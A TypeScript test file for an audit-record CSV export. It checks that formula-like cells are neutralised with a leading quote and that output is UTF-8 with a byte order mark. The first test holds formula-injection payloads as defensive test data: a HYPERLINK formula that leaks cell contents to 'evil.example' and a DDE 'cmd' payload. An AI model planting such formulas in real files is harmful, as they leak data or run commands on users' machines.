import { Readable, Writable } from 'node:stream';
import { writeExport, type AuditRecord } from '../../src/audit';

function record(over: Partial<AuditRecord>): AuditRecord {
  return {
    id: '00000000-0000-4000-8000-000000000001',
    tenant: 'acme',
    seq: 1,
    time: '2026-02-02T09:00:00.000Z',
    actor: { type: 'user', id: 'u-1' },
    action: 'time_entry.rejected',
    target: { kind: 'clio_time_entry', ids: { clioMatterId: 3 } },
    workflowId: 'timeCapture-acme-1',
    runId: 'run-1',
    idempotencyKey: 'timeCapture-acme-1:entry-0.rejected',
    outcome: 'failed',
    prevHash: '0'.repeat(64),
    hash: 'a'.repeat(64),
    ...over,
  };
}

/** RFC 4180 as a spreadsheet reads it: quoted cells, doubled quotes, newlines inside quotes; first row the header. */
function parse(bytes: Buffer): Record<string, string>[] {
  const text = bytes.toString('utf8').replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  const [header, ...body] = rows;
  return body.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

async function csv(records: AuditRecord[]): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer | string, _enc, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  await writeExport(Readable.from(records), 'csv', out);
  return Buffer.concat(chunks);
}

describe('audit export as CSV', () => {
  it('when a text cell starts with = + - @ (a formula to Excel), then it is written as text, not run', async () => {
    const bytes = await csv([
      record({
        rationale: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        actor: { type: 'user', id: '@SUM(1+1)' },
        target: { kind: 'matter', ids: {}, matterNumber: '+1-555-0100' },
        runId: '-2+3',
      }),
      record({ seq: 2, rationale: "\t=cmd|' /C calc'!A0", refs: { note: '=1+1' } }),
    ]);
    const rows = parse(bytes);
    expect(rows[0]).toMatchObject({
      rationale: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      actor_id: "'@SUM(1+1)",
      matter_number: "'+1-555-0100",
      run_id: "'-2+3",
    });
    expect(rows[1]!.rationale).toBe("'\t=cmd|' /C calc'!A0");
    // Every cell a spreadsheet would read as a formula is neutralized; ordinary text is left alone.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[1]!.refs).toBe('{"note":"=1+1"}');
    expect(rows[1]!.action).toBe('time_entry.rejected');
  });

  it('when names carry accents, then the file is UTF-8 with a byte order mark, so Excel reads them right', async () => {
    const bytes = await csv([record({ rationale: 'Müller & Søn: entrée refusée' })]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes);
    expect(rows[0]!.rationale).toBe('Müller & Søn: entrée refusée');
  });
});
